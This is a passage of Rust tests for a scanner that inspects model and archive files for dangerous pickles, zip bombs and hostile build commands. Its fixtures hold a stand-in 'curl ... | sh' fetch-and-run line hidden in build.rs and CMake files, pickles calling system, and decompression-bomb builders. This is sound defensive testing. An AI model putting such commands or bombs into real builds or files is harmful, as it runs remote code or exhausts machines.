    let half = z.central + (z.eocd - z.central) / 2;
    let path = write(dir.path(), "half.zip", &z.bytes[..half]);
    let (r, _) = scan_default(&path);
    with_rule(&r, "archive-malformed");
    let d = with_rule(&r, "pickle-dangerous-call");
    assert_eq!(d[0].location.members, vec!["archive/data.pkl".to_string()]);
}

/// The end record survives but the directory it points at is garbage: the damage is reported
/// and the members are still read from their local headers (as the truncated cases are).
#[test]
fn zip_garbage_central_directory_still_reads_local_headers() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut z = zip(&[Member::deflated("archive/data.pkl", OS_SYSTEM_PICKLE)]);
    for b in &mut z.bytes[z.central..z.eocd] {
        *b = 0x5a;
    }
    let path = write(dir.path(), "garbage-cd.zip", &z.bytes);
    let (r, _) = scan_default(&path);
    let m = with_rule(&r, "archive-malformed");
    assert!(
        m.iter().any(|f| f.evidence.contains("no signature")),
        "{m:#?}"
    );
    let d = with_rule(&r, "pickle-dangerous-call");
    assert_eq!(d[0].location.members, vec!["archive/data.pkl".to_string()]);
}

/// An end record claiming 65,535 entries and a directory far bigger than the file.
#[test]
fn zip_end_record_with_absurd_counts() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut z = zip(&[Member::stored("a.txt", b"a")]);
    let e = z.eocd;
    z.bytes[e + 8..e + 12].copy_from_slice(&[0xff, 0xff, 0xff, 0xff]);
    z.bytes[e + 12..e + 16].copy_from_slice(&0xffff_fff0u32.to_le_bytes());
    z.bytes[e + 16..e + 20].copy_from_slice(&0xffff_fff0u32.to_le_bytes());
    let path = write(dir.path(), "absurd.zip", &z.bytes);
    let (r, took) = scan_default(&path);
    assert!(took < Duration::from_secs(5), "took {took:?}");
    with_rule(&r, "archive-malformed");
}

/// A local header whose sizes run far past the end of the file.
#[test]
fn zip_member_running_past_the_end() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut z = zip(&[Member::stored("archive/data.pkl", OS_SYSTEM_PICKLE)]);
    let l = z.local[0] as usize;
    // Compressed and uncompressed size, in the local header and in the directory.
    z.bytes[l + 18..l + 26].copy_from_slice(&[0xf0, 0xff, 0xff, 0x7f, 0xf0, 0xff, 0xff, 0x7f]);
    let c = z.central;
    z.bytes[c + 20..c + 28].copy_from_slice(&[0xf0, 0xff, 0xff, 0x7f, 0xf0, 0xff, 0xff, 0x7f]);
    let path = write(dir.path(), "past.zip", &z.bytes);
    let (r, _) = scan_default(&path);
    let m = with_rule(&r, "archive-malformed");
    assert!(
        m.iter().any(|f| f.message.contains("past the end")),
        "{m:#?}"
    );
}

/// More members than the member bound.
#[test]
fn zip_with_more_members_than_the_bound() {
    let dir = tempfile::tempdir().expect("tempdir");
    let members: Vec<Member> = (0..150)
        .map(|i| Member::stored(&format!("m{i}.txt"), b"x"))
        .collect();
    let path = write(dir.path(), "many.zip", &zip(&members).bytes);
    let limits = BudgetLimits {
        max_members: 100,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    let f = with_rule(&r, "resource-limit");
    assert_eq!(f.len(), 1, "{f:#?}");
    assert!(f[0].evidence.contains("more than 100 members"), "{f:#?}");
}

// ---------------------------------------------------------------------------------------------
// Other damaged or meaningless input
// ---------------------------------------------------------------------------------------------

/// 1 MiB of noise named `.pkl`: named as unrecognised, never a crash.
#[test]
fn random_bytes_named_pkl() {
    let dir = tempfile::tempdir().expect("tempdir");
    let noise = lcg_bytes(0x5eed_1234, 1 << 20);
    let path = write(dir.path(), "noise.pkl", &noise);
    let (r, took) = scan_default(&path);
    assert!(took < Duration::from_secs(20), "took {took:?}");
    assert_eq!(r.format, Format::Unknown, "{:?}", ids(&r));
    let f = with_rule(&r, "unrecognised-model-file");
    assert!(f[0].evidence.contains("1048576 bytes"), "{}", f[0].evidence);
    assert_eq!(r.verdict, Verdict::Unanalysed);
}

/// Many seeds of noise behind a pickle header: whatever the machine meets, it ends cleanly.
#[test]
fn random_bytes_behind_a_pickle_header() {
    let dir = tempfile::tempdir().expect("tempdir");
    for seed in 0..64u32 {
        let mut p = b"\x80\x02".to_vec();
        p.extend(lcg_bytes(seed, 4096));
        let path = write(dir.path(), &format!("noise{seed}.pkl"), &p);
        let (r, _) = scan_default(&path);
        assert!(
            !r.findings.is_empty() || r.verdict == Verdict::Unanalysed,
            "seed {seed}: no finding and verdict {:?}",
            r.verdict
        );
    }
}

#[test]
fn empty_file_is_unanalysed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = write(dir.path(), "empty.pt", b"");
    let (r, _) = scan_default(&path);
    assert_eq!(r.verdict, Verdict::Unanalysed);
    assert_eq!(r.reason.as_deref(), Some("empty file"));
    assert!(!r.io_error);
    assert_eq!(r.size, 0);
}

/// A gzip stream cut short: `archive-malformed`, with what could be decompressed.
#[test]
fn gzip_truncated_stream_is_malformed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut body = OS_SYSTEM_PICKLE.to_vec();
    body.extend(lcg_bytes(7, 200_000));
    let gz = gzip(&body);
    let path = write(dir.path(), "cut.pkl.gz", &gz[..gz.len() / 2]);
    let (r, _) = scan_default(&path);
    assert_eq!(r.format, Format::Gzip);
    let m = with_rule(&r, "archive-malformed");
    assert!(
        m.iter().any(|f| f.message.contains("corrupt or truncated")),
        "{m:#?}"
    );
}

/// A gzip with a good header and a corrupt deflate stream right after it.
#[test]
fn gzip_corrupt_stream_is_malformed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut gz = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    gz.extend_from_slice(&[0xff; 64]); // BTYPE=11: reserved, invalid
    let path = write(dir.path(), "corrupt.gz", &gz);
    let (r, _) = scan_default(&path);
    with_rule(&r, "archive-malformed");
}

/// The 1.5 GiB bomb with the default bounds: the 200:1 ratio bound fires after ~300 MiB (the
/// ratio is taken against the member's whole compressed size), well under the 1 GiB member bound.
#[test]
fn zip_bomb_with_default_bounds() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (stream, crc, size) = repeated_deflate(&pickle_like_chunk(), 1536);
    let z = zip(&[Member {
        flags: 0,
        name: b"bomb.pkl".to_vec(),
        method: 8,
        raw: stream,
        crc,
        size,
    }]);
    let path = write(dir.path(), "bomb.zip", &z.bytes);
    let (r, _) = scan_default(&path);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter()
            .any(|f| f.evidence.contains("compression ratio above 200:1")),
        "{f:#?}"
    );
}

// ---------------------------------------------------------------------------------------------
// 7z
// ---------------------------------------------------------------------------------------------

/// A 7z NUMBER (7zFormat.txt): `0xFF` then 8 bytes little-endian, valid for any value.
fn sz_number(out: &mut Vec<u8>, v: u64) {
    out.push(0xff);
    out.extend_from_slice(&v.to_le_bytes());
}

/// A solid 7z archive with the Copy coder (7zFormat.txt): one folder holding every member's
/// bytes one after another, names in `FilesInfo`, no CRCs of the data.
fn sevenz_copy(members: &[(&str, &[u8])]) -> Vec<u8> {
    let packed: Vec<u8> = members
        .iter()
        .flat_map(|(_, d)| d.iter().copied())
        .collect();
    let mut h = vec![0x01, 0x04, 0x06]; // Header, MainStreamsInfo, PackInfo
    sz_number(&mut h, 0); // pack position
    sz_number(&mut h, 1); // pack streams
    h.push(0x09); // Size
    sz_number(&mut h, packed.len() as u64);
    h.extend_from_slice(&[0x00, 0x07, 0x0b]); // End, UnPackInfo, Folder
    sz_number(&mut h, 1); // folders
    h.push(0x00); // not external
    sz_number(&mut h, 1); // coders
    h.extend_from_slice(&[0x01, 0x00]); // simple coder, 1-byte id: Copy
    h.push(0x0c); // CodersUnPackSize
    sz_number(&mut h, packed.len() as u64);
    h.extend_from_slice(&[0x00, 0x08, 0x0d]); // End, SubStreamsInfo, NumUnPackStream
    sz_number(&mut h, members.len() as u64);
    h.push(0x09); // Size: all but the last
    for (_, d) in &members[..members.len() - 1] {
        sz_number(&mut h, d.len() as u64);
    }
    h.extend_from_slice(&[0x00, 0x00, 0x05]); // End, End (streams), FilesInfo
    sz_number(&mut h, members.len() as u64);
    let mut names = vec![0x00]; // not external
    for (n, _) in members {
        for u in n.encode_utf16() {
            names.extend_from_slice(&u.to_le_bytes());
        }
        names.extend_from_slice(&[0, 0]);
    }
    h.push(0x11); // Name
    sz_number(&mut h, names.len() as u64);
    h.extend_from_slice(&names);
    h.extend_from_slice(&[0x00, 0x00]); // End (files), End (header)
    let mut start = Vec::new();
    start.extend_from_slice(&(packed.len() as u64).to_le_bytes()); // next header offset
    start.extend_from_slice(&(h.len() as u64).to_le_bytes());
    start.extend_from_slice(&crc32(&h).to_le_bytes());
    let mut out = b"7z\xbc\xaf\x27\x1c\x00\x04".to_vec();
    out.extend_from_slice(&crc32(&start).to_le_bytes());
    out.extend_from_slice(&start);
    out.extend_from_slice(&packed);
    out.extend_from_slice(&h);
    out
}

/// Members of a solid 7z are analysed one at a time; a large member whose head decides its
/// verdict is decoded on without being kept, and the pickle after it in the same block is found.
/// With a total bound below the large member, the bound is reported, not skipped silently.
#[test]
fn sevenz_members_after_a_large_member_are_analysed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let noise = lcg_bytes(7, 3 << 20);
    let z = sevenz_copy(&[
        ("weights.bin", &noise),
        ("archive/data.pkl", OS_SYSTEM_PICKLE),
    ]);
    let path = write(dir.path(), "model.7z", &z);
    let (r, _) = scan_default(&path);
    let d = with_rule(&r, "pickle-dangerous-call");
    assert_eq!(d[0].location.members, vec!["archive/data.pkl".to_string()]);
    assert_eq!(d[0].severity, Severity::Critical);
    let limits = BudgetLimits {
        max_decompressed: 1 << 20,
        ..BudgetLimits::default()
    };
    let (r, _) = scan_within(&path, limits, HANG);
    let f = with_rule(&r, "resource-limit");
    assert!(
        f.iter().any(|f| f.location.members == ["weights.bin"]),
        "{f:#?}"
    );
}

/// A non-recursive zip bomb (David Fifield's construction; tester t12 h25/h36): 200 central
/// directory entries all pointing at one member whose deflate stream inflates to 64 MiB of
/// pickle-like bytes, 12.5 GiB in all, past the 8 GiB decompression budget. The overlap is
/// reported and the shared data is decompressed once, so no budget is reached.
#[test]
fn overlapping_members_are_reported_and_read_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (raw, crc, size) = repeated_deflate(&pickle_like_chunk(), 64);
    let kernel = Member {
        name: b"f000".to_vec(),
        flags: 0,
        method: 8,
        raw,
        crc,
        size,
    };
    let z = zip(std::slice::from_ref(&kernel));
    let mut out = z.bytes[..z.central].to_vec();
    let central = out.len();
    for i in 0..200 {
        let m = Member {
            name: format!("f{i:03}").into_bytes(),
            ..Member {
                raw: kernel.raw.clone(),
                ..Member::stored("", b"")
            }
        };
        let m = Member {
            method: 8,
            crc,
            size,
            ..m
        };
        central_entry(&mut out, &m, z.local[0]);
    }
    let eocd = out.len();
    end_record(&mut out, 200, central, eocd);
    let p = write(dir.path(), "bomb.zip", &out);
    let (r, _) = scan_default(&p);
    assert!(
        ids(&r).contains(&"zip-overlapping-members"),
        "{:?}",
        ids(&r)
    );
    assert!(!ids(&r).contains(&"resource-limit"), "{:?}", ids(&r));
}

/// A small pickle followed by a long run of zeros, gzipped (tester t12 h42: 14 MB holding
/// 3 GiB): the payload is found, and the zeros after the last pickle are decoded and counted
/// without being held (an info `resource-limit` says so), so memory stays at the window. A
/// pickle that needs the bytes past the window (a large array before the call) is still held
/// whole and its call found.
#[test]
fn zeros_after_a_gzipped_pickle_are_counted_not_held() {
    let dir = tempfile::tempdir().expect("tempdir");
    let limits = BudgetLimits {
        max_ratio: 1 << 20,
        ..BudgetLimits::default()
    };
    let mut stream = OS_SYSTEM_PICKLE.to_vec();
    stream.resize(stream.len() + (96 << 20), 0);
    let path = write(dir.path(), "model.pkl.gz", &gzip(&stream));
    let (r, _) = scan_within(&path, limits, HANG);
    assert!(
        with_rule(&r, "pickle-dangerous-call")
            .iter()
            .any(|f| f.severity == Severity::Critical),
        "{:?}",
        ids(&r)
    );
    let counted = with_rule(&r, "resource-limit");
    assert!(
        counted.iter().any(
            |f| f.severity == Severity::Info && f.evidence.contains("decompressed and counted")
        ),
        "{counted:#?}"
    );
    // `BINBYTES8` of 70 MiB, `POP`, then the call: the pickle ends past the window.
    let mut big = b"\x80\x04\x8e".to_vec();
    big.extend_from_slice(&(70u64 << 20).to_le_bytes());
    big.resize(big.len() + (70 << 20), 0);
    big.push(b'0');
    big.extend_from_slice(&OS_SYSTEM_PICKLE[2..]);
    let path = write(dir.path(), "big.pkl.gz", &gzip(&big));
    let (r, _) = scan_within(&path, limits, HANG);
    assert!(
        with_rule(&r, "pickle-dangerous-call")
            .iter()
            .any(|f| f.severity == Severity::Critical),
        "{:?}",
        ids(&r)
    );
    assert!(
        !r.findings
            .iter()
            .any(|f| f.evidence.contains("decompressed and counted")),
        "{:?}",
        ids(&r)
    );
}

/// A member whose headers declare 1000 bytes but which inflates much further (tester t13): the
/// lie is `zip-header-mismatch`, whether the member is judged from its head (text) or held
/// whole (a pickle), and an honest member is not reported.
#[test]
fn a_member_that_inflates_past_its_declared_size_is_a_header_mismatch() {
    let dir = tempfile::tempdir().expect("tempdir");
    let text = vec![b'a'; 200_000];
    let mut pickle = OS_SYSTEM_PICKLE.to_vec();
    pickle.resize(pickle.len() + 4000, 0);
    for (name, data) in [("notes.txt", &text), ("model.pkl", &pickle)] {
        let mut m = Member::deflated(name, data);
        m.size = 1000;
        let path = write(dir.path(), "lying.zip", &zip(&[m]).bytes);
        let (r, _) = scan_default(&path);
        let f = with_rule(&r, "zip-header-mismatch");
        assert!(
            f.iter()
                .any(|f| f.evidence.contains("declared uncompressed size 1000")),
            "{name}: {f:#?}"
        );
    }
    let path = write(
        dir.path(),
        "honest.zip",
        &zip(&[Member::deflated("notes.txt", &text)]).bytes,
    );
    let (r, _) = scan_default(&path);
    assert!(!ids(&r).contains(&"zip-header-mismatch"), "{:?}", ids(&r));
}

/// The same for a zip member: a torch-style `data.pkl` of a small pickle and 96 MiB of zeros is
/// judged, its zeros counted and CRC-checked without being held; a wrong CRC is still found.
#[test]
fn zeros_after_a_pickle_member_are_counted_not_held() {
    let dir = tempfile::tempdir().expect("tempdir");
    let limits = BudgetLimits {
        max_ratio: 1 << 20,
        ..BudgetLimits::default()
    };
    let mut stream = OS_SYSTEM_PICKLE.to_vec();
    stream.resize(stream.len() + (96 << 20), 0);
    let honest = Member::deflated("archive/data.pkl", &stream);
    let path = write(dir.path(), "model.pt", &zip(&[honest]).bytes);
    let (r, _) = scan_within(&path, limits, HANG);
    assert!(ids(&r).contains(&"pickle-dangerous-call"), "{:?}", ids(&r));
    assert!(
        r.findings.iter().any(
            |f| f.severity == Severity::Info && f.evidence.contains("decompressed and counted")
        ),
        "{:?}",
        ids(&r)
    );
    assert!(!ids(&r).contains(&"zip-crc-mismatch"), "{:?}", ids(&r));
    let mut bad = Member::deflated("archive/data.pkl", &stream);
    bad.crc ^= 1;
    let path = write(dir.path(), "bad.pt", &zip(&[bad]).bytes);
    let (r, _) = scan_within(&path, limits, HANG);
    assert!(ids(&r).contains(&"zip-crc-mismatch"), "{:?}", ids(&r));
}

/// A `.lzma` (LZMA-alone) stream, joblib's `compress='lzma'`, whose header claims a dictionary
/// of 256 MiB, 1 GiB or 3 GiB: CPython and joblib decode it (the window is allocated as it
/// fills), so airlock decodes it with a bounded window and finds the pickle (tester t14).
#[test]
fn a_huge_lzma_dictionary_claim_does_not_hide_the_pickle() {
    let dir = tempfile::tempdir().expect("tempdir");
    let opts = lzma_rust2::LzmaOptions::with_preset(1);
    let mut w = lzma_rust2::LzmaWriter::new_use_header(
        Vec::new(),
        &opts,
        Some(OS_SYSTEM_PICKLE.len() as u64),
    )
    .expect("lzma writer");
    w.write_all(OS_SYSTEM_PICKLE).expect("compress");
    let stream = w.finish().expect("finish");
    for dict in [256u32 << 20, 1 << 30, 3 << 30] {
        let mut s = stream.clone();
        s[1..5].copy_from_slice(&dict.to_le_bytes());
        let path = write(dir.path(), "model.joblib", &s);
        let (r, _) = scan_default(&path);
        assert!(
            with_rule(&r, "pickle-dangerous-call")
                .iter()
                .any(|f| f.severity == Severity::Critical),
            "{dict}: {:?}",
            ids(&r)
        );
    }
}

/// A pickle followed by 8 MiB of `c` and 8 MiB of `(`: every byte may start a hidden pickle, so
/// the search for one is bounded by the places it looks at and says where it stopped, in
/// bounded time.
#[test]
fn a_tail_of_pickle_start_bytes_stops_the_hidden_pickle_search() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut data = b"\x80\x02}q\x00.\xff".to_vec();
    data.resize(data.len() + (8 << 20), b'c');
    data.resize(data.len() + (8 << 20), b'(');
    let path = write(dir.path(), "model.pkl", &data);
    let (r, _) = scan_within(&path, BudgetLimits::default(), HANG);
    assert!(
        with_rule(&r, "resource-limit")
            .iter()
            .any(|f| f.message.contains("hidden pickles")),
        "{:?}",
        ids(&r)
    );
}

/// A safetensors header of `n` bytes or more, of tensors of 4 bytes each; `edit` may change
/// the tensor list (name, start, end) before it is written. Returns the file's bytes.
fn big_safetensors(min_len: usize, edit: impl Fn(&mut Vec<(String, u64, u64)>)) -> Vec<u8> {
    let mut tensors = Vec::new();
    let mut len = 0;
    let mut i = 0u64;
    while len < min_len {
        let name = format!("model.layers.{i}.weight");
        len += name.len() + 60;
        tensors.push((name, i * 4, i * 4 + 4));
        i += 1;
    }
    edit(&mut tensors);
    let mut header = String::from("{\"__metadata__\":{\"format\":\"pt\"}");
    let mut end = 0;
    for (name, s, e) in &tensors {
        header.push_str(&format!(
            ",\"{name}\":{{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[{s},{e}]}}"
        ));
        end = end.max(*e);
    }
    header.push('}');
    let mut bytes = (header.len() as u64).to_le_bytes().to_vec();
    bytes.extend_from_slice(header.as_bytes());
    bytes.extend(std::iter::repeat_n(0u8, end as usize));
    bytes
}

/// A header past the size the `safetensors` crate's parse is bounded to here (16 MiB; its
/// parse holds about 17 bytes per header byte) is validated by the streamed pass instead of
/// being reported as unread (tester t17 x11, x20: 300,000 and 1,000,000 tensors), with the
/// same checks: tensor count as a fact, a gap between tensors, a duplicated name.
#[test]
fn a_safetensors_header_past_the_crate_bound_is_validated_streamed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let good = big_safetensors(17 << 20, |_| {});
    let p = write(dir.path(), "many.safetensors", &good);
    let (r, _) = scan_default(&p);
    assert_eq!(r.format, airlock::Format::Safetensors);
    assert!(r.findings.is_empty(), "{:?}", ids(&r));
    let facts = r.facts.values().next().cloned().unwrap_or_default();
    let n = facts.get("tensors").cloned().unwrap_or_default();
    assert!(n.parse::<u64>().unwrap_or(0) > 200_000, "{n}");
    assert_eq!(
        facts.get("safetensors.format").map(String::as_str),
        Some("pt")
    );

    // A gap: one tensor moved 4 bytes on.
    let gap = big_safetensors(17 << 20, |t| {
        let k = t.len() / 2;
        t[k].1 += 4;
        t[k].2 += 4;
    });
    let p = write(dir.path(), "gap.safetensors", &gap);
    let (r, _) = scan_default(&p);
    let bad = with_rule(&r, "safetensors-invalid-header");
    assert_eq!(bad.len(), 1, "{:?}", ids(&r));
    assert!(bad[0].evidence.contains("starts at"), "{}", bad[0].evidence);

    // A name given twice (the second entry's bytes follow the last tensor's).
    let dup = big_safetensors(17 << 20, |t| {
        let last = t.last().map(|x| x.2).unwrap_or(0);
        let name = t[7].0.clone();
        t.push((name, last, last + 4));
    });
    let p = write(dir.path(), "dup.safetensors", &dup);
    let (r, _) = scan_default(&p);
    assert_eq!(
        with_rule(&r, "json-duplicate-key").len(),
        1,
        "{:?}",
        ids(&r)
    );
}

/// A safetensors header that is broken JSON and one that is valid JSON with wrong offsets
/// are told apart in the message (tester t20 f01-f05).
#[test]
fn safetensors_header_messages_say_which_part_is_wrong() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = |header: &str| {
        let mut v = (header.len() as u64).to_le_bytes().to_vec();
        v.extend_from_slice(header.as_bytes());
        v.extend_from_slice(&[0u8; 8]);
        v
    };
    for (header, want) in [
        (
            r#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[8,0]}}"#,
            "valid JSON, but its tensor entries",
        ),
        (
            r#"{"a":{"dtype":"F32","shape":[2],"#,
            "not valid safetensors JSON",
        ),
    ] {
        let p = write(dir.path(), "m.safetensors", &file(header));
        let r = scan_file(&p, BudgetLimits::default());
        let f = with_rule(&r, "safetensors-invalid-header");
        assert!(f[0].message.contains(want), "{header}: {}", f[0].message);
    }
}

/// Empty bzip2 streams back to back (14 bytes each) are passed over without a decoder, so a
/// payload after a million of them is read as Python's `bz2` reads it (tester t21 h29: 40 s,
/// no finding, `--max-seconds` ignored; t22: a payload after 100,000 stopped at a stream
/// bound). Tiny streams with data each need a decoder: the time budget is checked between
/// them.
#[test]
fn empty_bzip2_streams_are_passed_over_and_tiny_ones_stop_at_the_time_budget() {
    use std::io::Read;
    let dir = tempfile::tempdir().expect("tempdir");
    let bz = |data: &[u8]| {
        let mut out = Vec::new();
        bzip2::read::BzEncoder::new(data, bzip2::Compression::fast())
            .read_to_end(&mut out)
            .expect("bzip2");
        out
    };
    let empty = bz(b"");
    let system = bz(b"cposix\nsystem\n(S'echo airlock-test'\ntR.");
    for n in [3, 1_000_000] {
        let data = [empty.repeat(n), system.clone()].concat();
        let p = write(dir.path(), &format!("b{n}.pkl.bz2"), &data);
        let (r, _) = scan_within(&p, BudgetLimits::default(), HANG);
        assert!(
            !with_rule(&r, "pickle-dangerous-call").is_empty(),
            "{n}: {:?}",
            ids(&r)
        );
    }
    // 200,000 streams of one byte each (a pickle's opcodes could be spread so), with a time
    // budget of one second: stopped by it, and said so.
    let data = bz(b" ").repeat(200_000);
    let p = write(dir.path(), "c.pkl.bz2", &data);
    let limits = BudgetLimits {
        max_time: Duration::from_secs(1),
        ..BudgetLimits::default()
    };
    let (r, took) = scan_within(&p, limits, HANG);
    assert!(
        with_rule(&r, "resource-limit")
            .iter()
            .any(|f| f.message.contains("time per input")),
        "{:?} in {took:?}",
        ids(&r)
    );
}

/// A `.pth` of 20,000 lines into `/tmp` (medium each) lists the first 1,000 findings of its
/// rule and one fold entry that counts the other 19,000 (those past the thousand held in
/// memory), not 20,000 findings (tester t21 h11: two million lines, two million findings,
/// 1 GB). Low repeats fold after 20 (`tests/cli.rs`); medium and above are each a place to
/// review, listed up to the memory bound.
#[test]
fn findings_of_one_rule_are_capped_per_input_with_a_count() {
    let dir = tempfile::tempdir().expect("tempdir");
    let text = "/tmp/x\n".repeat(20_000);
    let p = write(dir.path(), "many.pth", text.as_bytes());
    let (r, _) = scan_default(&p);
    let found = with_rule(&r, "pth-untrusted-path");
    let (listed, entries): (Vec<&airlock::Finding>, Vec<&airlock::Finding>) =
        found.iter().copied().partition(|f| f.folded == 0);
    assert!(listed.iter().all(|f| f.severity == Severity::Medium));
    assert_eq!(listed.len(), 1000, "{:?}", ids(&r));
    assert_eq!(entries.len(), 1, "{:?}", ids(&r));
    assert_eq!(entries[0].folded, 19_000);
    assert_eq!(entries[0].severity, listed[0].severity);
    assert!(
        entries[0]
            .message
            .starts_with("19000 more findings of this rule"),
        "{}",
        entries[0].message
    );
    // The count covers every line: listed plus folded.
    let total: u64 = found.iter().map(|f| f.count()).sum();
    assert_eq!(total, 20_000);
}

/// Build files whose variables double on every line (meson `s = s + s`, CMake
/// `string(CONCAT A ${A}${A})` and `set(A ${A} ${A})`, sixty times) stop growing at the value
/// bound instead of taking the machine's memory (tester t22 d18: 22 GB, killed).
#[test]
fn doubling_build_file_variables_are_bounded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let meson = format!(
        "project('x')\ns = 'a'\n{}run_command('echo', s)\n",
        "s = s + s\n".repeat(60)
    );
    let concat = format!(
        "set(A a)\n{}execute_process(COMMAND echo ${{A}})\n",
        "string(CONCAT A ${A}${A})\n".repeat(60)
    );
    let list = format!(
        "set(A a)\n{}execute_process(COMMAND echo ${{A}})\n",
        "set(A ${A} ${A})\n".repeat(60)
    );
    for (name, text) in [
        ("meson.build", meson),
        ("CMakeLists.txt", concat),
        ("x.cmake", list),
    ] {
        let p = write(dir.path(), name, text.as_bytes());
        let (r, took) = scan_within(&p, BudgetLimits::default(), HANG);
        assert!(took < Duration::from_secs(20), "{name}: {took:?}");
        assert!(
            r.worst().is_none_or(|w| w < Severity::Medium),
            "{name}: {:?}",
            ids(&r)
        );
    }
}

/// Build files with multibyte characters where the byte scanners step (after a backslash, at
/// the end of a read window) give findings or nothing, never a panic (found by fuzzing).
#[test]
fn build_files_with_multibyte_characters_anywhere_do_not_panic() {
    let dir = tempfile::tempdir().expect("tempdir");
    let window_edge = format!("execute_process(COMMAND {}é)\n", "a".repeat(64 * 1024 - 1));
    for (name, text) in [
        (
            "CMakeLists.txt",
            "execute_process(COMMAND \"\\é\" sh -c \"echo \\é\")\n".to_string(),
        ),
        ("x.cmake", window_edge),
        (
            "meson.build",
            "s = 'é\\é' + 'é'\nrun_command(s, '\\é')\n".to_string(),
        ),
        (
            "build.rs",
            "fn main() { std::process::Command::new(\"\\é\").arg(r#\"é\"#).arg(\"é\\é\"); }\n"
                .to_string(),
        ),
    ] {
        let p = write(dir.path(), name, text.as_bytes());
        let (r, _) = scan_within(&p, BudgetLimits::default(), HANG);
        assert!(!r.io_error, "{name}");
    }
}

/// Build files shaped to make the command scanners quadratic, copy one large value into every
/// argument, or hide the real command behind hundreds of commented decoys (tester t23): bounded
/// in time, every bound reported, and the command after the decoys still judged.
#[test]
fn build_file_scanners_stay_bounded_and_say_so() {
    let dir = tempfile::tempdir().expect("tempdir");
    let raw = "let a=r#\"".repeat(100_000);
    let big = "x".repeat(600_000);
    let copied = format!(
        "const P: &str = \"{big}\";\nfn main() {{\n{}}}\n",
        "    std::process::Command::new(\"sh\").args([P, P, P, P, P, P, P, P]).status().ok();\n"
            .repeat(256)
    );
    let decoys = format!(
        "{}fn main() {{ std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x.example.invalid/i.sh | sh\").status().unwrap(); }}\n",
        "// Command::new(\"true\")\n".repeat(300)
    );
    let cmake_decoys = format!(
        "{}execute_process(COMMAND sh -c \"curl -s https://x.example.invalid/i.sh | sh\")\n",
        "# execute_process(\n".repeat(300)
    );
    for (name, text, limit, high) in [
        ("a/build.rs", raw, true, false),
        ("b/build.rs", copied, true, false),
        ("c/build.rs", decoys, false, true),
        ("d/CMakeLists.txt", cmake_decoys, false, true),
    ] {
        std::fs::create_dir_all(dir.path().join(name).parent().expect("parent")).expect("mkdir");
        let p = write(dir.path(), name, text.as_bytes());
        let (r, took) = scan_within(&p, BudgetLimits::default(), HANG);
        assert!(took < Duration::from_secs(20), "{name}: {took:?}");
        assert_eq!(
            r.findings.iter().any(|f| f.rule.id == "resource-limit"),
            limit,
            "{name}: {:?} {:?} {}",
            ids(&r),
            r.format,
            text.len()
        );
        assert_eq!(
            r.worst().is_some_and(|w| w >= Severity::High),
            high,
            "{name}: {:?}",
            ids(&r)
        );
    }
}

/// Calls of values that are no callable (`None`, a number, a string; found by fuzzing: the
/// six-byte pickle `N)R.` panicked the evaluator), directly and through `getattr`: each is a
/// call of something that cannot be named, never a panic.
#[test]
fn pickle_calls_of_non_callables_are_unresolved_calls() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: [(&str, &[u8]); 4] = [
        ("none.pkl", b"\x80\x02N)R."),
        ("int.pkl", b"\x80\x02K\x07)R."),
        ("str.pkl", b"\x80\x02X\x02\x00\x00\x00os)R."),
        (
            "getattr_none.pkl",
            b"\x80\x02cbuiltins\ngetattr\nNX\x06\x00\x00\x00system\x86R)R.",
        ),
    ];
    for (name, bytes) in cases {
        let path = write(dir.path(), name, bytes);
        let (r, _) = scan_default(&path);
        let f = with_rule(&r, "pickle-unresolved-call");
        assert!(!f.is_empty(), "{name}: {:?}", ids(&r));
        assert!(f[0].severity >= Severity::High, "{name}: {:?}", f[0]);
    }
}

/// A `.npy` header whose dtype code starts with a byte that is not UTF-8 (read as U+FFFD,
/// three bytes; found by fuzzing: the item-size parser sliced inside it and panicked).
#[test]
fn npy_dtype_with_a_non_ascii_first_character() {
    let dir = tempfile::tempdir().expect("tempdir");
    for descr in [&b"|\xfb"[..], "é8".as_bytes(), "<€4".as_bytes()] {
        let mut header = b"{'descr': '".to_vec();
        header.extend_from_slice(descr);
        header.extend_from_slice(b"', 'fortran_order': False, 'shape': (1,), }");
        while (10 + header.len() + 1) % 64 != 0 {
            header.push(b' ');
        }
        header.push(b'\n');
        let mut npy = b"\x93NUMPY\x01\x00".to_vec();
        npy.extend_from_slice(&(header.len() as u16).to_le_bytes());
        npy.extend_from_slice(&header);
        npy.extend_from_slice(&[0u8; 8]);
        let path = write(dir.path(), "odd_dtype.npy", &npy);
        let (r, _) = scan_default(&path);
        assert_eq!(r.format, Format::Npy, "{descr:?}: {:?}", ids(&r));
    }
}

/// A pickle padded with `NONE`/`POP` pairs that compress a thousandfold, its call at the end:
/// the ratio bound stops the gzip stream before the call, and what it leaves unread is the rest
/// of a pickle that `pickle.load` (pandas, joblib) decodes and runs, so the bound is high (a
/// payload past it must fail `--fail-on high`). Compressed text stays below high.
#[test]
fn a_ratio_bound_inside_a_running_pickle_is_high() {
    let dir = tempfile::tempdir().expect("tempdir");
    let gz = |data: &[u8]| {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(data).expect("gzip");
        e.finish().expect("gzip")
    };
    let mut padded = b"\x80\x02".to_vec();
    padded.extend(b"N0".repeat(4 << 20));
    padded.extend_from_slice(&OS_SYSTEM_PICKLE[2..]);
    let limits = BudgetLimits {
        ratio_floor: 1 << 20,
        ..BudgetLimits::default()
    };
    let path = write(dir.path(), "padded.pkl.gz", &gz(&padded));
    let (r, _) = scan_within(&path, limits, HANG);
